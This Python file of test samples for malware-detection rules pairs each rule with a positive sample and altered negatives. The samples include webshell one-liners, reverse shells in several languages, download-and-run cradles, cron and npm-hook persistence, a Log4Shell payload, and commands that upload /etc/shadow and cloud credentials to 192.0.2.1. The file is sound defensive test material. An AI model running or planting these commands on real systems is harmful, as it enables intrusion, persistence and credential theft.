# SPDX-License-Identifier: Apache-2.0
"""Samples for the starter rules: what each must find, and what it must not.

SAMPLES maps a rule to its positive sample and to edits of it, (old, new), each
of which makes a negative one: the same file without one thing that makes it
what it is. A new of None cuts the file off before old.

Nothing here is a working program, and no sample lies in this file as it is:
"^^" in a text is taken out, so that scanners leave the source alone.
"""


def text(source):
    return source.replace("^^", "").encode("latin-1")


def elf(*parts):
    """A 64-bit ELF header and then strings, as in a data section."""
    return (b"\x7fELF\x02\x01\x01" + bytes(57) +
            b"".join(text(part) + b"\0" for part in parts))


def pe(*parts, wide=False):
    strings = b"".join(text(part) + b"\0" for part in parts)
    if wide:
        strings = b"".join(bytes((byte, 0)) for byte in strings)
    return b"MZ" + bytes(62) + b"PE\0\0" + bytes(20) + strings


def xor(key, *words):
    return bytes(64) + b"".join(
        bytes(byte ^ key for byte in text(word)) + b"\0" for word in words)


SAMPLES = {
    # ---- eicar ----
    "TestFile_Any_EICAR_A": (
        text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI^^CAR-STANDARD-ANTI^^VIRUS-TEST-"
             "FILE!$H+H*") + b"\r\n \t\x1a",
        [("X5O", " X5O"), ("H+H*\r", "H+H*x"), ("7}$", "7}%")]),
    # ---- webshell_php ----
    "Webshell_PHP_EvalRequest_A": (
        text("GIF89a\n<?php @ev^^al($_PO^^ST['x']); ?>"),
        [("$_POST", "$post"), ("<?php", "<html>")]),
    "Webshell_PHP_CommandRequest_A": (
        text("<?php echo '<pre>'; sys^^tem($_G^^ET['cmd']); ?>"),
        [("$_GET[", "escapeshellcmd($_GET["), ("<?php", "text ")]),
    "Webshell_PHP_DecodeRequest_A": (
        text("<?php ev^^al(base64_^^decode($_REQ^^UEST['q'])); ?>"),
        [("eval(", "echo (")]),
    "Webshell_PHP_WSO_A": (
        text("<?php\nfunction wso^^Ex($in) {}\nfunction wso^^Header() {}\n"
             "function action^^FilesMan() {}\n"),
        [("wsoEx", "doEx")]),
    "Webshell_PHP_C99_A": (
        text("<?php\nif (!function_exists(\"c99^^fsbuff\")) {}\n"
             "function c99^^ftpbrutecheck() {}\n"),
        [("c99ftp", "my_ftp")]),
    "Webshell_PHP_B374k_A": (
        text("<?php $GLOBALS['^^pass'] = 'x'; /* b3^^74k 3.2 */"),
        [("b374k", "b375k"), ("'pass'", "'word'")]),
    "Webshell_PHP_Behinder_A": (
        text("<?php session_start(); $key=\"e45e^^329feb5d925b\";\n"
             "$_SES^^SION['k']=$key;\n"
             "$post=file_get_contents(\"php://^^input\");\n"),
        [("feb5d", "feb5e")]),
    "Webshell_PHP_Godzilla_A": (
        text("<?php\nfunction encode($D,$K){ for($i=0;$i<strlen($D);$i++)\n"
             "$D[$i] = $D[$i]^$K[$i+1&15]; }\n$payloadName='payload';\n"),
        [("&15", "&31"), ("$payloadName=", "$name=")]),
    # ---- webshell_jsp ----
    "Webshell_JSP_CommandRequest_A": (
        text("<%@ page import=\"java.io.*\" %>\n<% Process p = Runtime."
             "getRuntime().ex^^ec(request.getParameter(\"cmd\")); %>"),
        [("exec(request.getParameter(\"cmd\")", "exec(\"date\")")]),
    "Webshell_JSP_Behinder_A": (
        text("<%@page import=\"java.util.*\"%><%!class U extends Class^^Loader"
             "{U(ClassLoader c){super(c);}public Class g(byte []b){return "
             "super.defineClass(b,0,b.length);}}%><% session.putValue(\"u\",k);"
             "Cipher c=Cipher.getInstance(\"AES\"); %>"),
        [("class U", "class V")]),
    "Webshell_JSP_Godzilla_A": (
        text("<%! String xc=\"3c6e0b8a^^9c15224a\"; class X extends Class^^"
             "Loader{public Class Q(byte[] cb){return null;}} %>"),
        [("Class Q(", "Class R(")]),
    # ---- webshell_aspx ----
    "Webshell_ASPX_ChinaChopper_A": (
        text("<%@ Page Language=\"Jscript\"%><%ev^^al(Request.It^^em[\"p\"],"
             "\"unsafe\");%>"),
        [("\"unsafe\"", "\"safe\""), ("Request.", "Response.")]),
    "Webshell_ASP_ChinaChopper_A": (
        text("<%ex^^ecute req^^uest(\"pass\")%>"),
        [("<%execute request", "<%response.write request")]),
    "Webshell_ASPX_Command_A": (
        text("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
             "ProcessStart^^Info i = new ProcessStartInfo(); i.FileName = "
             "\"cmd.exe\"; i.Arguments = \"/c \" + txt.Text;\n"
             "i.RedirectStandard^^Output = true;\n"),
        [("\"/c \" + txt", "\"/c dir\"; txt"), ("cmd.exe", "git.exe")]),
    # ---- reverse_shell ----
    "Backdoor_Script_ReverseShellBash_A": (
        text("#!/bin/bash\nbash -i >& /dev/^^tcp/192.0.2.1/4444 0>&1\n"),
        [("bash -i >&", "echo hello >&")]),
    "Backdoor_Script_ReverseShellPython_A": (
        text("import socket,subprocess,os\ns=socket.socket()\n"
             "s.connect((\"192.0.2.1\",1))\nos.dup2(s.file^^no(),0)\n"
             "subprocess.call([\"/bin/^^sh\",\"-i\"])\n"),
        [("os.dup2(s.fileno(),0)", "s.close()"), ("/bin/sh", "/bin/ls")]),
    "Backdoor_Script_ReverseShellPerl_A": (
        text("use Socket;$i=\"192.0.2.1\";if(connect(S,1)){open(STDIN,\">&^^S"
             "\");open(STDOUT,\">&S\");exec(\"/bin/^^sh -i\");};"),
        [("STDIN", "INPUT"), ("/bin/sh -i", "/bin/date")]),
    "Backdoor_PHP_ReverseShell_A": (
        text("<?php\n$shell = 'uname -a; w; id; /bin/sh -^^i';\n"
             "$sock = fsockopen($ip, $port);\n$process = proc_open($shell, $d, "
             "$pipes);\nstream_select($read_a, $write_a, $error_a, null);\n"
             "fwrite($pipes[0], $input);\n"),
        [("proc_open", "open"), ("/bin/sh -i", "/bin/true")]),
    "Backdoor_Script_ReverseShellNetcat_A": (
        text("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|^^nc "
             "192.0.2.1 1 >/tmp/f\n"),
        [("mkfifo", "touch"), ("|nc", "|tee")]),
    "Backdoor_Script_ReverseShellPowershell_A": (
        text("$client = New-Object System.Net.Sockets.TCP^^Client('192.0.2.1',"
             "1);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
             "$sendback = (i^^ex $data 2>&1 | Out-String );"),
        [("(iex $data", "(echo $data")]),
    "Backdoor_Script_ReverseShellRuby_A": (
        text("require 'socket'\nf=TCPSocket.open(\"192.0.2.1\",1).to_i\n"
             "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,^^f)\n"),
        [("exec sprintf", "puts sprintf")]),
    # ---- coin_miner ----
    "Miner_Any_XMRigConfig_A": (
        text("{\n \"donate-level\": 1,\n \"randomx\": {},\n \"pools\": [{"
             "\"url\": \"x\", \"keepalive\": true, \"nicehash\": false}]}"),
        [("\"pools\":", "\"lakes\":"), ("\"keepalive\":", "\"keep\":")]),
    "Miner_Linux_XMRig_A": (
        elf("donate.v2.^^xmrig.com", "stratum+^^tcp://", "rx/^^0"),
        [("rx/0", "rx/-"), ("\x7fELF", "\x7fELG")]),
    "Miner_Windows_XMRig_A": (
        pe("donate.ssl.^^xmrig.com", "stratum+^^ssl://", "WinRing0x64.sys"),
        [("WinRing0", "WinRing1"), ("MZ", "ZM")]),
    "Trojan_Script_MinerDropper_A": (
        text("#!/bin/sh\npkill -f ^^xmrig\npkill -f kdev^^tmpfsi\n"
             "pkill -f ^^kinsing\ncurl -o /tmp/x http://192.0.2.1/x\n"
             "chmod +x /tmp/x\n"),
        [("pkill -f xmrig", "pgrep xmrig"), ("#!", "# ")]),
    # ---- ransom_note ----
    "Ransomware_Any_NoteGeneric_A": (
        text("Your files have been ^^encrypted!\nBuy bitcoin, install Tor "
             "Browser and visit us. To decrypt you need the private key.\n"
             "Do not rename the files.\n"),
        [("encrypted!", "backed up!"), ("bitcoin", "a ticket"),
         ("private key", "door")]),
    "Ransomware_Any_NoteLockBit_A": (
        text("~~~ Lock^^Bit 3.0 ~~~\n>>>> Your data are stolen and ^^encrypted"
             "\nInstall Tor Browser. Your personal DECRYPTION ID: 1\n"),
        [("~~~ LockBit", "~~~ LuckBit")]),
    "Ransomware_Any_NoteConti_A": (
        text("All of your files are currently encrypted by ^^CONTI strain.\n"
             "DONT'T TRY TO RECOVER your data. TOR VERSION :\n"),
        [("by CONTI", "by us")]),
    # ---- macro_dropper ----
    "Dropper_Office_VbaDownload_A": (
        text("Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n"
             "Set x = CreateObject(\"MSXML2.^^XMLHTTP\")\n"
             "CreateObject(\"WScript.^^Shell\").Run f\nEnd Sub\n"),
        [("AutoOpen", "Calculate"), ("MSXML2", "Excel")]),
    "Dropper_Office_VbaPowershell_A": (
        text("Attribute VB_Name = \"Module1\"\nSub Workbook_Open()\n"
             "Shell \"powershell -nop -w hidden -e\", 0\nEnd Sub\n"),
        [("-w hidden", "-file x"), ("Workbook_Open", "Button_Click")]),
    "Exploit_Office_EquationEditor_A": (
        text("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105000002000000"
             "0b0000004571756174^^696f6e2e33000000}}}"),
        [("\\objupdate", "\\objw100"), ("{\\rtf1", "{rtf1")]),
    "Dropper_Office_Dde_A": (
        text("<?xml version=\"1.0\"?><w:p><w:instrText>DDE^^AUTO "
             "c:\\\\windows\\\\system32\\\\cmd.exe \"/k x\"</w:instrText>"),
        [("DDEAUTO", "DATE"), ("cmd.exe", "cmd.txt")]),
    # ---- lolbin_script ----
    "Downloader_Script_Certutil_A": (
        text("certutil.exe -url^^cache -split -f http://192.0.2.1/a.exe a.exe "
             "&& start a.exe\r\n"),
        [("-split", "-verify"), ("http:", "file:")]),
    "Downloader_Script_Mshta_A": (
        text("cmd /c mshta ^^http://192.0.2.1/x.hta\r\n"),
        [("mshta http", "mshta c:")]),
    "Downloader_Script_Regsvr32_A": (
        text("regsvr32 /s /n /u /i:^^http://192.0.2.1/x.sct scro^^bj.dll\r\n"),
        [("scrobj", "object"), ("/i:http", "/i:file")]),
    "Downloader_Script_Bitsadmin_A": (
        text("bitsadmin /^^transfer j http://192.0.2.1/a %TEMP%\\a.exe && "
             "start %TEMP%\\a.exe"),
        [("/transfer", "/list"), ("%TEMP%", "d:")]),
    "Downloader_Script_Rundll32_A": (
        text("rundll32.exe javascript:\"\\..\\^^mshtml,RunHTML^^Application \""
             ";document.write();"),
        [("mshtml", "shell32")]),
    "Downloader_Script_PowershellCradle_A": (
        text("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
             "Down^^loadString('http://192.0.2.1/a')\""),
        [("-w hidden", "-noexit"), ("IEX", "Echo")]),
    # ---- linux_bot ----
    "Bot_Linux_Mirai_A": (
        elf() + xor(0x22, "root", "xc^^3511", "viz^^xv", "admin"),
        [("TKXZT", "TKXZU"), ("CFOKL", "CFOKM")]),
    "Bot_Linux_Mirai_B": (
        elf("/bin/busybox ^^MIRAI", "/dev/watchdog", "/proc/net/tcp"),
        [("MIRAI", "telnet"), ("/dev/watchdog", "/dev/null")]),
    "Bot_Linux_Gafgyt_A": (
        elf("GETLOCAL^^IP", "KILL^^ATTK", "LOLNO^^GTFO"),
        [("KILLATTK", "KILLPROC")]),
    "Bot_Linux_Tsunami_A": (
        elf("NOTICE %s :TSUNAMI <target> <^^secs>",
            "NOTICE %s :PAN <target> <port> <^^secs>", "PRIVMSG"),
        [(":PAN", ":PIN"), ("PRIVMSG", "MESSAGE")]),
    "Bot_Linux_XorDdos_A": (
        elf("BB2FA36A^^AA9541F0", "cp /lib/libudev.so /lib/libudev.so.^^6"),
        [("AA9541F0", "AA9541F1")]),
    "Downloader_Linux_BotLoader_A": (
        text("#!/bin/sh\ncd /tmp || cd /var/^^run || cd /mnt || cd /root || cd "
             "/; wget http://192.0.2.1/b.mips; chmod 777 b.mips; ./b.mips; "
             "rm -rf b.mips\n"),
        [("cd /tmp ||", "cd /opt ||"), ("chmod 777", "chmod 600")]),
    # ---- ssh_backdoor ----
    "Backdoor_Linux_AuthorizedKeys_A": (
        text("#!/bin/sh\nchattr -^^ia /root/.ssh/authorized_keys\n"
             "echo 'ssh-rsa AAAAB3Nz x' >> /root/.ssh/authorized_^^keys\n"),
        [("chattr -ia", "chmod 600"), ("ssh-rsa", "ssh-none")]),
    "Backdoor_Linux_SshdConfig_A": (
        text("#!/bin/sh\nsed -i 's/PermitRootLogin no/PermitRootLogin ^^yes/' "
             "/etc/ssh/sshd_config\nuseradd -o -u ^^0 -g 0 x\n"),
        [("useradd -o -u 0", "useradd -m -u 1000")]),
    "Backdoor_Linux_Ebury_A": (
        elf("Xver", "Xcat", "Xpsw", "libkeyutils.so.1"),
        [("Xpsw\0", "Xpswd\0"), ("libkeyutils.so", "libkey.so")]),
    # ---- cron_persistence ----
    "Trojan_Linux_CronDownload_A": (
        text("*/5 * * * * root curl -fsSL http://192.0.2.1/a.sh | ba^^sh\n"),
        [("| bash", "> file"), ("*/5 * * * *", "# at five")]),
    "Trojan_Script_CronInstall_A": (
        text("#!/bin/sh\necho '*/2 * * * * curl -fsSL http://192.0.2.1/a|sh' "
             "| crontab ^^-\n"),
        [("| crontab -", "| cat"), ("a|sh'", "a'")]),
    "Trojan_Script_CronHidden_A": (
        text("@reboot /tmp/^^.x/run >/dev/null 2>&1\n"),
        [("/tmp/.x", "/opt/x")]),
    # ---- log4shell ----
    "Exploit_Any_Log4Shell_A": (
        text("GET /?x=${jndi:^^ldap://192.0.2.1:1389/Basic/Command/^^Base64/"
             "aWQ=} HTTP/1.1\n"),
        [("${jndi:ldap", "${ldap"), ("/Base64/", "/Base32/")]),
    "Exploit_Any_Log4Shell_B": (
        text("X-Api: ${${::-j}${::-n}${::-d}${::-^^i}:ldap://192.0.2.1/a}\n"),
        [("${::-n}", "${::-m}")]),
    # ---- obfuscated_script ----
    "Heuristic_PHP_EncodedEval_A": (
        text("<?php ev^^al(gzinflate(base64_^^decode('" + "A" * 300 + "')));"),
        [("eval(", "echo("), ("A" * 200, "")]),
    "Heuristic_JS_HexNames_A": (
        text("(function(_0x1,_0x2){while(!![]){tr^^y{_0x1['push'](_0x1["
             "'shift']());}catch(e){}}})();" + "var _0xabc=_0xdef(1);" * 40),
        [("var _0xabc=_0xdef(1);" * 20, ""), ("['shift']())", "['pop']())")]),
    "Heuristic_Script_PipedBase64_A": (
        text("#!/bin/sh\necho aWQ= | base64 -d | ^^sh\n"),
        [("| base64 -d | sh", "| base64 -d | cat")]),
    "Heuristic_VBS_CharCodes_A": (
        text("Dim a\na = " + "Chr(65) & " * 80 + "Chr(66)\nExecute(a)\n"),
        [("Chr(65) & " * 40, ""), ("Execute(a)", "MsgBox(a)")]),
    "Heuristic_Batch_Substrings_A": (
        text("@echo off\nset x=abc\n" + "%x:~1,1%%x:~12,1%" * 25),
        [("%x:~1,1%%x:~12,1%" * 10, "")]),
    # ---- credential_stealer ----
    "Stealer_Windows_Mimikatz_A": (
        pe("sekurlsa::^^logonpasswords", "gentil^^kiwi", "mimi^^katz",
           wide=True),
        [("m\0i\0m\0i\0", "m\0o\0m\0i\0"), ("MZ", "ZM")]),
    "Stealer_Any_BrowserWebhook_A": (
        text("p = '\\\\Google\\\\Chrome\\\\User ^^Data'\nd = 'Login ^^Data'\n"
             "k = 'encrypted_^^key'\nu = 'https://discord.com/api/^^webhooks'"),
        [("discord.com/api", "example.com/api"), ("Login Data", "History")]),
    "Stealer_Script_ShadowUpload_A": (
        text("#!/bin/sh\ncurl -F 'f=@/etc/^^shadow' http://192.0.2.1/\n"),
        [("@/etc/shadow", "@/etc/motd"), ("curl -F", "curl -o")]),
    "Stealer_Script_CloudKeys_A": (
        text("#!/bin/sh\ncat ~/.aws/^^credentials ~/.docker/^^config.json "
             "~/.git-^^credentials > o\ncurl -F f=@o http://192.0.2.1/\n"),
        [(".docker/config.json", ".docker/x"), ("curl -F", "cat")]),
    # ---- keylogger ----
    "Keylogger_Python_Pynput_A": (
        text("from pynput.keyboard import Listener\nimport smtplib\n"
             "# keylogger\ns = smtplib.SMTP('192.0.2.1')\n"
             "Listener(on_^^press=f)\n"),
        [("smtplib.SMTP(", "print("), ("# keylogger", "# hotkeys")]),
    "Keylogger_Script_Powershell_A": (
        text("Add-Type -MemberDefinition 'short GetAsync^^KeyState(int k); int "
             "GetKeyboard^^State(byte[] s);'\nif ($s -eq -32767) { "
             "[IO.File]::AppendAllText($p, $c) }\n"),
        [("GetKeyboardState", "GetCursorPos"), ("AppendAllText", "ToString")]),
    # ---- phishing_kit ----
    "Phishing_PHP_MailResult_A": (
        text("<?php\n$m = \"|--------------| Login |--------------|\";\n"
             "$m .= $_POST['^^password'];\n$m .= getenv(\"REMOTE_^^ADDR\");\n"
             "mail($to,$subject,$m);\nheader(\"Location: https://192.0.2.1\");"),
        [("mail($to", "log($to"), ("|--------------|", "Result:")]),
    "Phishing_PHP_TelegramResult_A": (
        text("<?php\n$t = $_POST['^^password'] . $_SERVER['REMOTE_^^ADDR'];\n"
             "file_get_contents(\"https://api.telegram.org/^^bot$k/sendMessage"
             "?text=$t\");\n"),
        [("'password'", "'comment'"), ("sendMessage", "getMe")]),
    "Phishing_HTML_EncodedPage_A": (
        text("<html><script>var email='a@example.org';\n"
             "document.write(^^atob('PGZvcm0gYWN0aW9u'));</script></html>"),
        [("document.write(atob(", "console.log(atob("), ("PGZvcm0", "PGRpdg")]),
    # ---- rootkit_linux ----
    "Rootkit_Linux_PreloadHide_A": (
        elf("readdir", "readdir64", "dlsym", "/proc/self/fd/%d",
            "/proc/%s/stat", "process_to_^^filter"),
        [("process_to_filter", "process_list"), ("dlsym", "dlxym")]),
    "Rootkit_Linux_Azazel_A": (
        elf("HIDE_THIS_^^SHELL", "is_file_^^invisible", "clean_^^wtmp"),
        [("clean_wtmp", "clean_temp")]),
    "Rootkit_Linux_Diamorphine_A": (
        elf("diamorphine_^^init", "hacked_^^kill", "give_^^root"),
        [("give_root", "give_back")]),
    "Rootkit_Linux_PreloadInstall_A": (
        text("#!/bin/sh\ncurl -o /dev/shm/l.so http://192.0.2.1/l\n"
             "echo /dev/shm/l.so > /etc/ld.so.^^preload\n"),
        [("ld.so.preload", "ld.so.conf"), ("curl ", "cat ")]),
    # ---- systemd_persistence ----
    "Trojan_Linux_SystemdUnit_A": (
        text("[Unit]\nDescription=x\n[Service]\nExecStart=^^/tmp/x\n"
             "[Install]\nWantedBy=multi-user.target\n"),
        [("ExecStart=/tmp/x", "ExecStart=/usr/bin/x"), ("[Service]", "[Path]")]),
    "Trojan_Script_SystemdInstall_A": (
        text("#!/bin/sh\nwget -O /var/tmp/x http://192.0.2.1/x\n"
             "cat > /etc/systemd/system/x.service <<E\n[Service]\n"
             "ExecStart=^^/var/tmp/x\nE\nsystemctl enable x\n"),
        [("systemctl enable", "systemctl status"),
         ("ExecStart=/var/tmp", "ExecStart=/usr/bin")]),
    # ---- package_stealer ----
    "Stealer_NPM_InstallScript_A": (
        text("{\"name\": \"x\", \"scripts\": {\"preinstall\": \"cu^^rl -s "
             "http://192.0.2.1/x | ^^sh\"}}"),
        [("| sh", "> x"), ("\"preinstall\"", "\"pretest\"")]),
    "Stealer_NPM_ShaiHulud_A": (
        text("const name = 'Shai-^^Hulud'; run('trufflehog ^^filesystem /');\n"
             "const token = env.NPM_^^TOKEN;\n"),
        [("Shai-Hulud", "Shai-Halud"), ("NPM_TOKEN", "NPM_NAME")]),
    "Stealer_PyPI_SetupExec_A": (
        text("from setuptools import setup\nfrom setuptools.command.install "
             "import install\nclass P(install):\n def run(self):\n  exec("
             "base64.^^b64decode(b'x'))\nsetup(cmdclass={'install': P})\n"),
        [("exec(", "len("), ("cmdclass", "keywords")]),
    # ---- loader_powershell ----
    "Loader_Script_CobaltStrike_A": (
        text("$v = [Convert]::FromBase64String('38uqIyMj^^Q6rGEvFHqHE')\n"
             "for ($x = 0; $x -lt $v.Count; $x++) { $v[$x] -bxor ^^35 }\n"),
        [("-bxor 35", "-bxor 36"), ("38uqIyMj", "38uqIyMk")]),
    "Loader_Script_ReflectivePE_A": (
        text("function Invoke-Reflective^^PEInjection { [byte[]]$PEBytes }\n"
             "function Invoke-Memory^^LoadLibrary { }\n"),
        [("Invoke-MemoryLoadLibrary", "Invoke-Library"),
         ("$PEBytes", "$Bytes")]),
}
